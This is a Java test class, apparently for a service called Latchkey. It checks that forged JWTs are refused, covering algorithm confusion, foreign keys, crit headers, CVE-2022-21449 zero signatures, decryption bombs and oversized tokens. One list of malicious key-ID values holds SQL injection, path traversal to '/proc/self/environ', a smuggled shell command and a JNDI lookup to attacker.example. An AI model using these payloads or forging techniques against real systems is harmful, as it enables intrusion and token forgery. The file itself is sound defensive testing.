package io.latchkey.security;

import static io.latchkey.security.TokenCalls.accepted;
import static io.latchkey.security.TokenCalls.refused;
import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;

import io.latchkey.dev.idp.DevelopmentToken;
import io.latchkey.testing.Calls;
import io.latchkey.testing.Certificates;
import io.latchkey.testing.KeyServer;
import io.latchkey.testing.LatchkeyStores;
import io.latchkey.testing.RawToken;
import io.latchkey.testing.Tokens;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.jwe.JsonWebEncryption;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
import org.jose4j.jwk.PublicJsonWebKey;
import org.jose4j.jwk.RsaJwkGenerator;
import org.jose4j.jws.EcdsaUsingShaAlgorithm;
import org.jose4j.lang.JoseException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Tokens that an attacker changes without the issuer's keys, or has an issuer sign. Each test changes one property of a valid
 * token: a header, the signature or a part.
 */
@QuarkusTest
class ForgedTokensTest {

    private static final PublicJsonWebKey FOREIGN = foreignKey();

    /** About as much as fits into the headers of a request. */
    private static final int DEEP = 9_000;

    @TempDir
    static Path directory;

    @Test
    void unchangedParts_areAccepted() {
        accepted(RawToken.of(valid()).sign());
    }

    @ParameterizedTest
    @ValueSource(strings = {"HS256", "HS384", "HS512"})
    void publicKey_asHmacSecret_isRefused(String algorithm) {
        byte[] secret = key("RSA").getPublicKey().getEncoded();
        refused(valid().header("alg", algorithm).signedWith(new SecretKeySpec(secret, "HmacSHA256")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"rs256", "RS256 ", "", "RS256,none", "\u0000", "ES256K", "RSA1_5", "dir"})
    void unknownAlgorithm_isRefused(String algorithm) {
        refused(changed("\"RS256\"", quoted(algorithm)).sign());
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "1", "[\"RS256\"]", "{\"RS256\":1}", "true"})
    void headersOfAnotherType_areRefused(String value) {
        refused(changed("\"RS256\"", value).sign());
        refused(changed("\"dev1\"", value).sign());
        refused(changed("\"at+jwt\"", value).sign());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR '1'='1",
                "dev1'; DROP TABLE users; --",
                "../../../../dev/null",
                "..\\..\\dev1",
                "/proc/self/environ",
                "dev1\u0000",
                "dev1\n",
                " dev1",
                "DEV1",
                "dev1;dev2",
                "|/usr/bin/touch latchkey",
                "${jndi:ldap://attacker.example/a}",
                "*"
            })
    void maliciousKeyId_isRefused(String kid) {
        refused(changed("\"dev1\"", quoted(kid)).sign());
    }

    /** Neither the key nor the address is trusted, and no request is sent to it. */
    @ParameterizedTest
    @ValueSource(strings = {"jku", "x5u"})
    void keysAtAnotherAddress_areNotFetched(String header) {
        try (KeyServer attacker = KeyServer.start()) {
            attacker.publish(FOREIGN);
            for (String kid : List.of("dev1", FOREIGN.getKeyId())) {
                refused(valid().signedWith(FOREIGN.getPrivateKey())
                        .header("kid", kid)
                        .header(header, attacker.address()));
            }
            assertEquals(0, attacker.requests());
        }
    }

    @Test
    void keyInTheToken_underItsOwnId_isRefused() {
        Map<String, Object> jwk = FOREIGN.toParams(OutputControlLevel.PUBLIC_ONLY);
        refused(valid().signedWith(FOREIGN.getPrivateKey())
                .header("kid", FOREIGN.getKeyId())
                .header("jwk", jwk));
    }

    @Test
    void certificateInTheToken_isNotTrusted() throws Exception {
        KeyStore store = Certificates.selfSigned(directory, "issuer.example");
        PrivateKey key = (PrivateKey) store.getKey(Certificates.ALIAS, Certificates.PASSWORD);
        byte[] certificate = store.getCertificate(Certificates.ALIAS).getEncoded();
        List<String> chain = List.of(Base64.getEncoder().encodeToString(certificate));
        String thumbprint = Base64.getUrlEncoder()
                .withoutPadding()
                .encodeToString(MessageDigest.getInstance("SHA-256").digest(certificate));
        refused(valid().signedWith(key).header("x5c", chain));
        refused(valid().signedWith(key).header("x5c", chain).header("kid", null));
        refused(valid().signedWith(key).header("x5t#S256", thumbprint));
    }

    /** The service supports no extension, and must therefore refuse it (RFC 7515 §4.1.11). */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "[\"exp\"]        | \"exp\":1",
                "[\"b64\"]        | \"b64\":true",
                "[]               | \"b64\":true",
                "\"exp\"          | \"exp\":1",
                "[\"alg\"]        | \"x\":1",
                "[\"nothing\"]    | \"x\":1"
            })
    void criticalHeaders_areRefused(String names, String extension) {
        refused(extended("\"crit\":" + names + "," + extension).sign());
    }

    /** RFC 7797 §7: a JWT is always encoded. */
    @Test
    void payloadThatIsNotEncoded_isRefused() {
        RawToken plain = extended("\"crit\":[\"b64\"],\"b64\":false").payload(payload -> payload.replace(".", "_"));
        refused(plain.signPlain());
        refused(plain.sign());
        refused(extended("\"b64\":false").sign());
    }

    @Test
    void sameHeaderTwice_isRefused() {
        refused(extended("\"alg\":\"RS256\"").sign());
        refused(extended("\"kid\":\"dev1\"").sign());
        refused(extended("\"typ\":\"at+jwt\"").sign());
    }

    /** An access token is only signed (RFC 9068 §2.1); an inner token would escape the checks of the outer header. */
    @Test
    void nestedToken_isRefused() {
        String nested = valid().sign();
        RawToken around = extended("\"cty\":\"JWT\"").payload(payload -> nested);
        refused(around.sign());
        refused(around.sign(foreignPrivateKey()));
        refused(around.header(header -> header.replace("RS256", "none")).withSignature(new byte[0]));
        refused(extended("\"cty\":\"JWT\"")
                .payload(payload -> RawToken.of(valid()).sign(foreignPrivateKey()))
                .sign());
    }

    @ParameterizedTest
    @CsvSource({
        "dir, A256GCM, 32",
        "A256KW, A256GCM, 32",
        "A128GCMKW, A128CBC-HS256, 16",
        "PBES2-HS256+A128KW, A128GCM, 16"
    })
    void encryptedToken_isRefused(String algorithm, String encryption, int keyBytes) throws JoseException {
        JsonWebEncryption encrypted = new JsonWebEncryption();
        encrypted.setHeader("typ", "at+jwt");
        encrypted.setAlgorithmHeaderValue(algorithm);
        encrypted.setEncryptionMethodHeaderParameter(encryption);
        encrypted.setAlgorithmConstraints(org.jose4j.jwa.AlgorithmConstraints.NO_CONSTRAINTS);
        encrypted.setKey(new SecretKeySpec(new byte[keyBytes], "AES"));
        encrypted.setPayload(RawToken.of(valid()).payload());
        refused(encrypted.getCompactSerialization());
    }

    @Test
    void tokenEncryptedForTheIssuersKey_isRefused() throws JoseException {
        JsonWebEncryption encrypted = new JsonWebEncryption();
        encrypted.setHeader("typ", "at+jwt");
        encrypted.setHeader("cty", "JWT");
        encrypted.setKeyIdHeaderValue("dev1");
        encrypted.setAlgorithmHeaderValue("RSA-OAEP-256");
        encrypted.setEncryptionMethodHeaderParameter("A256GCM");
        encrypted.setKey(key("RSA").getPublicKey());
        encrypted.setPayload(valid().sign());
        refused(encrypted.getCompactSerialization());
    }

    /** An iteration count that the caller chooses, and a decompression bomb. */
    @Test
    void expensiveDecryption_isNotStarted() {
        String costly =
                "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2c\":2147483647,\"p2s\":\"c2FsdHNhbHQ\"}";
        String bomb = "{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"zip\":\"DEF\"}";
        long start = System.nanoTime();
        for (String header : List.of(costly, bomb)) {
            String encoded =
                    Base64.getUrlEncoder().withoutPadding().encodeToString(header.getBytes(StandardCharsets.UTF_8));
            refused(encoded + ".AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA");
        }
        assertEquals(0, (System.nanoTime() - start) / 10_000_000_000L, "took ten seconds or more");
    }

    /** CVE-2022-21449: r and s are zero. */
    @Test
    void emptySignatureOfEs256_isRefused() {
        RawToken token = RawToken.of(valid().signedBy(key("EC"), "ES256"));
        refused(token.withSignature(new byte[64]));
        refused(token.withSignature(new byte[0]));
        refused(token.withSignature(new byte[] {0x30, 0x06, 0x02, 0x01, 0, 0x02, 0x01, 0}));
    }

    @Test
    void signatureOfEs256_inAnotherForm_isRefused() throws Exception {
        String good = valid().signedBy(key("EC"), "ES256").sign();
        accepted(good);
        byte[] signature = Base64.getUrlDecoder().decode(good.substring(good.lastIndexOf('.') + 1));
        refused(good.substring(0, good.lastIndexOf('.') + 1)
                + Base64.getUrlEncoder()
                        .withoutPadding()
                        .encodeToString(EcdsaUsingShaAlgorithm.convertConcatenatedToDer(signature)));
    }

    @ParameterizedTest
    @CsvSource({"RSA, RS256, 256", "RSA, PS256, 256", "EC, ES256, 64", "OKP, EdDSA, 64"})
    void signatureOfZeroes_isRefused(String type, String algorithm, int bytes) {
        DevelopmentToken token = valid().signedBy(key(type), algorithm);
        accepted(token);
        refused(RawToken.of(token).withSignature(new byte[bytes]));
    }

    @Test
    void wrongNumberOfParts_isRefused() {
        String good = valid().sign();
        refused(good + ".");
        refused(good + ".AAAA");
        refused("." + good);
        refused(good.substring(good.indexOf('.')));
        refused(good.substring(good.indexOf('.') + 1));
        refused("..");
        refused(".");
        refused("{\"payload\":\"e30\",\"signatures\":[]}");
    }

    /** Headers are parsed before the signature is verified. */
    @Test
    void deeplyNestedHeader_isRefused() {
        refused(extended("\"x\":" + "[".repeat(DEEP) + "]".repeat(DEEP / 2)).withSignature(new byte[256]));
        refused(extended("\"x\":" + "{\"x\":".repeat(DEEP / 4)).withSignature(new byte[256]));
    }

    @Test
    void headerThatIsNotAnObject_isRefused() {
        for (String header : List.of("", "null", "[]", "\"RS256\"", "{", "{}", "\uFEFF{}", "{\"alg\":\"RS256\"}}")) {
            refused(new RawToken(header, RawToken.of(valid()).payload()).sign());
        }
    }

    /** The HTTP server reads no more than 20 KiB of headers. */
    @Test
    void oversizedToken_isNotRead() {
        accepted(valid().claim("padding", "x".repeat(10_000)));
        tooLarge(valid().claim("padding", "x".repeat(16_000)).sign());
        tooLarge("x".repeat(100_000));
        accepted(valid());
    }

    /**
     * Not checked against the OpenAPI document: no operation is reached. The server closes the connection while the request is
     * still being sent, so that the client may see either the answer or the closed connection.
     */
    private static void tooLarge(String token) {
        try {
            given().noFilters()
                    .auth()
                    .oauth2(token)
                    .get(Calls.AUDIT_EVENTS)
                    .then()
                    .statusCode(431);
        } catch (Exception closed) {
            assertInstanceOf(IOException.class, closed);
        }
    }

    private static RawToken extended(String members) {
        return RawToken.of(valid())
                .header(header -> header.replaceFirst("}$", "," + members.replace("\\", "\\\\") + "}"));
    }

    private static RawToken changed(String from, String to) {
        return RawToken.of(valid()).header(header -> header.replace(from, to));
    }

    private static String quoted(String text) {
        return io.vertx.core.json.Json.encode(text);
    }

    private static DevelopmentToken valid() {
        return Tokens.auditor();
    }

    private static PublicJsonWebKey key(String type) {
        return LatchkeyStores.tokens().key(type);
    }

    private static PrivateKey foreignPrivateKey() {
        return FOREIGN.getPrivateKey();
    }

    private static PublicJsonWebKey foreignKey() {
        try {
            PublicJsonWebKey key = RsaJwkGenerator.generateJwk(2048);
            key.setKeyId("attacker");
            return key;
        } catch (JoseException e) {
            throw new IllegalStateException(e);
        }
    }
}
